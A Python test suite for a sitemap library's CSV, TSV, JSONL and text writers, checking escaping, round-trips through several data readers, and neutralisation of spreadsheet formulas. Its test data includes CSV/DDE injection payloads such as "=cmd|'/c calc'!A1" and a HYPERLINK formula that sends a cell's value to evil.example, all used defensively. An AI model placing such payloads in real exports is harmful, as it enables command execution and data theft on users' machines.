import csv
import io
import json
import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import orjson
import pytest
from corpus_cases import CORPUS
from hypothesis import given
from hypothesis import strategies as st
from tiers import needs

from sitemap_reader import Extra, Image, UrlRecord, UsageError, json_line, to_dict
from sitemap_reader.serialize import FORMATS, Blocks, all_fields, make_sink, parse_fields

Readers = dict[str, Callable[[Path], list[list[str]]]]

Form = dict[str, Any]
COLUMNS = list(all_fields().names)


def written(format: str, forms: Iterable[Form], fields: str | None = None, guard: bool = True) -> bytes:
    stream = io.BytesIO()
    sink = make_sink(format, Blocks(stream), fields=parse_fields(fields) if fields else None, guard=guard)
    for form in forms:
        sink.write(form)
    sink.close()
    return stream.getvalue()


def corpus_forms() -> list[Form]:
    """The URLs of two expectations: a shop, and every extension."""
    files = [CORPUS / "sites" / "shop.jsonl", *sorted((CORPUS / "extensions").glob("*.jsonl"))]
    lines = [orjson.loads(line) for file in files for line in file.read_bytes().splitlines()]
    return [line for line in lines if "type" not in line]


CORPUS_FORMS = corpus_forms()


def cell(value: Any) -> str:
    """The text of a value in a table."""
    if value is None or isinstance(value, str):
        return value or ""
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def cells(form: Form, names: list[str]) -> list[str]:
    return [cell(form.get(name)) for name in names]


# --- formats ---


def test_every_format_has_a_sink() -> None:
    for format in FORMATS:
        assert written(format, CORPUS_FORMS[:1])


def test_unknown_format_is_an_error_that_names_the_known_ones() -> None:
    with pytest.raises(UsageError, match="there is no format 'xlsx'; there are jsonl, csv, tsv, txt, parquet"):
        make_sink("xlsx", Blocks(io.BytesIO()))


# --- jsonl ---


def test_jsonl_is_the_lines_of_the_records() -> None:
    records = [
        UrlRecord("https://example.com/a", priority=0.5, images=(Image("https://example.com/1.jpg", "Grüße"),)),
        UrlRecord("https://example.com/b", extras=(Extra("urn:x", "y"),)),
    ]
    forms = [to_dict(record, site="example.com") for record in records]
    assert written("jsonl", forms) == b"".join(json_line(record, site="example.com") for record in records)


def test_jsonl_with_fields_is_flat() -> None:
    forms: list[Form] = [{"loc": "a", "images": [{"loc": "1"}, {"loc": "2"}]}, {"loc": "b", "priority": 1.0}]
    assert written("jsonl", forms, "priority,images.loc,loc").decode().splitlines() == [
        '{"priority":null,"images.loc":["1","2"],"loc":"a"}',
        '{"priority":1.0,"images.loc":null,"loc":"b"}',
    ]


# --- txt ---


def test_txt_is_the_locs() -> None:
    assert written("txt", CORPUS_FORMS).decode().splitlines() == [form["loc"] for form in CORPUS_FORMS]
    assert written("txt", []) == b""


def test_txt_with_fields_is_refused_with_advice() -> None:
    with pytest.raises(UsageError, match=r'txt is the locs alone, without fields; format="tsv" has fields'):
        make_sink("txt", Blocks(io.BytesIO()), fields=parse_fields("loc"))


@pytest.mark.parametrize("loc", ["https://example.com/a\nb", "a\r", None, 3])
def test_txt_refuses_a_loc_with_a_line_end_or_empty(loc: Any) -> None:
    with pytest.raises(UsageError, match="is no line of text; --format jsonl takes any"):
        written("txt", [{"loc": loc}])


# --- csv and tsv: the lines ---


def test_csv_has_a_header_empty_nulls_and_compact_json() -> None:
    form = {
        "loc": "https://example.com/a,b",
        "lastmod": None,
        "priority": 1.0,
        "line": 7,
        "images": [{"loc": "https://example.com/1.jpg", "title": 'a "b", é', "caption": None}],
        "mobile": True,
    }
    assert written("csv", [form], "loc,lastmod,priority,line,mobile,images,images.caption,news").decode() == (
        "loc,lastmod,priority,line,mobile,images,images.caption,news\n"
        '"https://example.com/a,b",,1.0,7,true,'
        '"[{""loc"":""https://example.com/1.jpg"",""title"":""a \\""b\\"", é"",""caption"":null}]",[null],\n'
    )


def test_tsv_escapes_tabs_and_line_ends_and_quotes_what_has_quotes() -> None:
    form = {"loc": 'say "a\tb"', "news": {"title": "one\ntwo\r\nthree\\n"}, "images": [{"title": 'a"b\n'}]}
    assert written("tsv", [form], "loc,news.title,lastmod,images").decode() == (
        "loc\tnews.title\tlastmod\timages\n"
        '"say ""a\\tb"""\tone\\ntwo\\r\\nthree\\\\n\t\t"[{""title"":""a\\\\""b\\\\n""}]"\n'
    )


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_an_empty_run_has_the_header(format: str) -> None:
    separator = {"csv": ",", "tsv": "\t"}[format]
    assert written(format, []).decode() == separator.join(COLUMNS) + "\n"
    assert written(format, [], "loc,news.title").decode() == f"loc{separator}news.title\n"


def test_nothing_is_written_before_there_is_something() -> None:
    stream = io.BytesIO()
    sink = make_sink("csv", Blocks(stream))
    sink.flush()
    assert stream.getvalue() == b""


def test_flush_writes_what_is_ready() -> None:
    stream = io.BytesIO()
    sink = make_sink("csv", Blocks(stream), fields=parse_fields("loc"))
    sink.write({"loc": "a"})
    sink.flush()
    assert stream.getvalue() == b"loc\na\n"


def test_unwritable_json_object_leaves_no_part() -> None:
    stream = io.BytesIO()
    sink = make_sink("csv", Blocks(stream), fields=parse_fields("loc,news.title"))
    with pytest.raises(UsageError, match=r"^a, news\.title: news is not built"):
        sink.write({"loc": "a", "news": "x"})
    sink.write({"loc": "b"})
    sink.close()
    assert stream.getvalue() == b"loc,news.title\nb,\n"


# --- csv and tsv: what reads them ---

HOSTILE = [
    "plain", "a,b", 'say "yes"', "two\nlines", "dos\r\nline", "mac\rline", "tab\there", "back\\slash \\n \\t \\",
    "=1+1", "=cmd|'/c calc'!A1", "+1", "-1", "@x", " lead", "trail ", "emoji 🎬 世界 Grüße", "\x01\x02\x1b[31m\x7f",
    "\u2028\u2029\x85\x0b\x0c\x1c", '"', '""', "'", "\\", "\\\\", "null", "NULL", "NaN", "true", "1.50", "007", "#x",
    "\ufeffbom", "//comment", "{}", "[]", '"swallow', 'end"', '"=1+1"', ' "=1"', '"a"b', "'\"x", 'a""b',
]
_UNESCAPED = {r"\t": "\t", r"\n": "\n", r"\r": "\r", "\\\\": "\\"}


def unescaped(cell: str) -> str:
    return re.sub(r"\\[tnr\\]", lambda found: _UNESCAPED[found[0]], cell)


def hostile_form(number: int, text: str) -> Form:
    return {"loc": f"https://example.com/{number}", "news": {"title": text}}


def by_csv_module(path: Path, **options: Any) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True, **options))


def by_pandas(path: Path, **options: Any) -> list[list[str]]:
    frame = needs("pandas").read_csv(path, dtype=str, keep_default_na=False, **options)
    return [[*frame.columns], *frame.to_numpy().tolist()]


def by_duckdb(path: Path, options: str) -> list[list[str]]:
    reader = f"read_csv('{path}', all_varchar=true, {options})"
    duckdb = needs("duckdb")
    rows = duckdb.connect().execute(f"SELECT * FROM {reader}")  # noqa: S608 - a path of pytest's
    names = [column[0] for column in rows.description]
    return [names, *([each or "" for each in row] for row in rows.fetchall())]


def by_polars(path: Path, **options: Any) -> list[list[str]]:
    frame = needs("polars").read_csv(path, infer_schema=False, **options)
    return [frame.columns, *([each or "" for each in row] for row in frame.rows())]


def by_lines(path: Path) -> list[list[str]]:
    """As awk or cut read it, which leave quotes as they are."""
    *lines, rest = path.read_bytes().decode().split("\n")
    assert rest == ""
    cells = [line.split("\t") for line in lines]
    return [[cell[1:-1].replace('""', '"') if cell.startswith('"') else cell for cell in row] for row in cells]


CSV_READERS: Readers = {
    "csv": by_csv_module,
    "duckdb": lambda path: by_duckdb(path, "header=true"),
    "duckdb, all options": lambda path: by_duckdb(path, "header=true, delim=',', quote='\"', escape='\"'"),
    "polars": by_polars,
    "pandas": by_pandas,
}
TSV_READERS: Readers = {
    "lines": by_lines,
    "csv": lambda path: by_csv_module(path, delimiter="\t"),
    "duckdb": lambda path: by_duckdb(path, "header=true, delim='\t'"),
    "polars": lambda path: by_polars(path, separator="\t"),
    "pandas": lambda path: by_pandas(path, sep="\t"),
}


every_reader = pytest.mark.parametrize(
    ("format", "reader"), [*(("csv", reader) for reader in CSV_READERS), *(("tsv", reader) for reader in TSV_READERS)]
)


def rows_of(path: Path, format: str, reader: str) -> list[list[str]]:
    """The rows that a reader finds, without the escapes of TSV."""
    if format == "csv":
        return CSV_READERS[reader](path)
    return [[unescaped(cell) for cell in row] for row in TSV_READERS[reader](path)]


@every_reader
def test_hostile_text_comes_back_as_it_was(tmp_path: Path, format: str, reader: str) -> None:
    file = tmp_path / f"urls.{format}"
    forms = [hostile_form(number, text) for number, text in enumerate(HOSTILE)]
    file.write_bytes(written(format, forms, "news.title,loc", guard=False))
    assert rows_of(file, format, reader) == [
        ["news.title", "loc"], *([form["news"]["title"], form["loc"]] for form in forms),
    ]


@every_reader
def test_a_table_says_what_the_jsonl_of_the_corpus_says(tmp_path: Path, format: str, reader: str) -> None:
    file = tmp_path / f"urls.{format}"
    file.write_bytes(written(format, CORPUS_FORMS))
    assert rows_of(file, format, reader) == [COLUMNS, *(cells(form, COLUMNS) for form in CORPUS_FORMS)]


# --- csv and tsv: formulas ---

FORMULAS = [
    "=1+1", "+1", "-1+cmd|'/c calc'!A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ta", " =1", "\xa0 +1", "\0=1", "\x1b@x",
    "\ufeff=1", "\u200b-1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "\u3000＝1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    forms = [hostile_form(1, text)]
    rows = list(csv.reader(io.StringIO(written("csv", forms, "news.title,loc").decode(), newline=""), strict=True))
    assert rows[1] == [f"'{text}", "https://example.com/1"]
    read = csv.reader(io.StringIO(written("tsv", forms, "news.title,loc").decode()), delimiter="\t", strict=True)
    assert unescaped([*read][1][0]) == f"'{text}"


@pytest.mark.parametrize("reader", CSV_READERS)
@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_no_quote_hides_a_formula_or_a_row(tmp_path: Path, format: str, reader: str) -> None:
    texts = ['"=HYPERLINK(""http://evil.example/?""&A1,""x"")"', "plain", '"swallow', "three", 'rows end"', "=1+1"]
    file = tmp_path / f"urls.{format}"
    file.write_bytes(
        written(format, [hostile_form(number, text) for number, text in enumerate(texts)], "news.title,loc")
    )
    _, *rows = (CSV_READERS if format == "csv" else TSV_READERS)[reader.partition(",")[0]](file)
    assert [row[0] for row in rows] == [*texts[:-1], "'=1+1"]
    assert [row[1] for row in rows] == [f"https://example.com/{number}" for number in range(len(texts))]


@pytest.mark.parametrize("format", ["csv", "tsv"])
def test_numbers_nested_values_and_other_text_get_no_apostrophe(format: str) -> None:
    form = {"loc": "a=b", "priority": -0.5, "line": -1, "mobile": True, "sitemap": "'quoted", "images": [{"loc": "=1"}]}
    names = "loc,priority,line,mobile,sitemap,lastmod,images.loc"
    header, line, _ = written(format, [form], names).decode().split("\n")
    separator = {"csv": ",", "tsv": "\t"}[format]
    assert line.split(separator) == ["a=b", "-0.5", "-1", "true", "'quoted", "", '"[""=1""]"']
    assert header.split(separator)[0] == "loc"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_any_text_comes_back(texts: list[str]) -> None:
    forms: list[Form] = [{"loc": "x", "sitemap": text} for text in texts]
    text = written("csv", forms, "sitemap,loc", guard=False).decode()
    read = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert [row[0] for row in read[1:]] == texts
    lines = written("tsv", forms, "sitemap,loc", guard=False).decode().split("\n")[1:-1]
    assert [unescaped(row[0]) for row in csv.reader(lines, delimiter="\t", strict=True)] == texts


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_one_column_alone_is_read_as_well(texts: list[str]) -> None:
    for format, separator in (("csv", ","), ("tsv", "\t")):
        text = written(format, [{"loc": "x", "sitemap": text} for text in texts], "sitemap", guard=False).decode()
        read = csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True)
        assert [[unescaped(cell) if format == "tsv" else cell for cell in row] for row in read][1:] == [
            [text] for text in texts
        ]
